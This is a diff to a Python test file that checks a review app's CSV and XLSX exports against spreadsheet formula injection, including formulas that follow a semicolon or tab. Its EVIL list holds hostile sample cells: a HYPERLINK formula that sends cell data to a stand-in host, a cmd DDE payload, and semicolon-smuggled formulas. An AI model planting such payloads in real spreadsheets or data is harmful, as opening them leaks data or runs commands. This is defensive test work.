@@ -3,6 +3,7 @@ viewer, a frozen and filterable header, sized columns) and CSV (streamed); 50,00
 a memory bound, and 100,000 XLSX rows take no more memory than 10,000."""
 import csv
 import io
+import re
 import tempfile
 import tracemalloc
 
@@ -223,12 +224,15 @@ def _rss_peak_meter():
 
 # Written out here, not imported: the test must not share the rule it checks.
 EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", " =1+1",
-        "\tx", "\uff1d1+1"]
+        "\tx", "\uff1d1+1", "see;=1+1;", "ok; @SUM(1)"]
 STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 
 
 def _would_run(cell) -> bool:
-    return isinstance(cell, str) and cell.lstrip(" ").startswith(STARTS)
+    """Whether any piece of the cell runs once Excel splits it at a `;`, tab or line break (what
+    it does in locales whose list separator is `;`)."""
+    return isinstance(cell, str) and any(
+        piece.lstrip(" ").startswith(STARTS) for piece in [cell] + re.split(r"[;\t\r\n]", cell)[1:])
 
 
 def _assert_inert(rows, *, formulas_allowed=0):
@@ -303,7 +307,8 @@ def test_every_csv_export_neutralises_every_data_cell(client, evil_world):
         assert rows, name
         cells = _assert_inert(rows)
         for evil in EVIL:
-            assert any(evil.strip() in c for c in cells), (name, evil)  # the data is there, made inert
+            # the data is there, made inert (apostrophes aside)
+            assert any(evil.strip().replace("'", "") in c.replace("'", "") for c in cells), (name, evil)
 
 
 def test_namelist_command_misses_are_neutralised_and_upload_again_as_the_same_names(evil_world, tmp_path):
@@ -318,7 +323,7 @@ def test_namelist_command_misses_are_neutralised_and_upload_again_as_the_same_na
     call_command("doppel_namelist", "--misses", str(misses), "--", "-clean", str(names), stdout=io.StringIO())
     rows = _csv_rows(misses.read_text(encoding="utf-8"))
     _assert_inert(rows)
-    assert {r[1] for r in rows} == {"'" + e for e in wanted}
+    assert {r[1] for r in rows} == {safe_cell(e) for e in wanted} != wanted
     # the misses file, fixed and uploaded again, names the same things (the mark comes off)
     call_command("doppel_namelist", "--", "-clean", str(misses), stdout=io.StringIO())
     again = NameList.objects.order_by("-pk").first()
@@ -338,7 +343,7 @@ def test_every_xlsx_export_neutralises_cells_and_escapes_its_own_links(client, e
         assert len(rows) == len(EVIL)
         _assert_inert(rows, formulas_allowed=len(EVIL))  # the links are the only formulas
         notes = [r[7] for r in rows]
-        assert sorted(notes) == sorted("'" + e for e in EVIL)
+        assert sorted(notes) == sorted(safe_cell(e) for e in EVIL)
         assert all(str(r[-1]).startswith('=HYPERLINK("http://testserver/') for r in rows)
 
 
@@ -359,6 +364,20 @@ def test_hyperlink_formula_escapes_quotes_in_the_data_it_carries():
     wb = Workbook()
     wb.active.append([f])
     assert wb.active["A1"].data_type == "f"
+
+
+def test_a_formula_after_a_semicolon_or_tab_cannot_run_where_excel_splits_the_cell_there():
+    assert safe_cell("see;=1+1;") == "see;'=1+1;"
+    assert safe_cell("a\t@b") == "a\t'@b" and safe_cell("x; +1") == "x; '+1"
+    assert safe_cell("=a;-b") == "'=a;'-b"
+    assert safe_cell("plain;text, -1") == "plain;text, -1"  # a comma is held together by CSV quoting
+
+
+def test_cell_text_takes_off_every_apostrophe_safe_cell_added():
+    from reviewapp.services.exports import cell_text
+
+    for original in ("see;=1+1;", "=a;-b", "a\t@b", "plain;text", "C0001"):
+        assert cell_text(safe_cell(original)) == original
 
 
 def test_safe_cell_leaves_numbers_and_plain_text_alone():
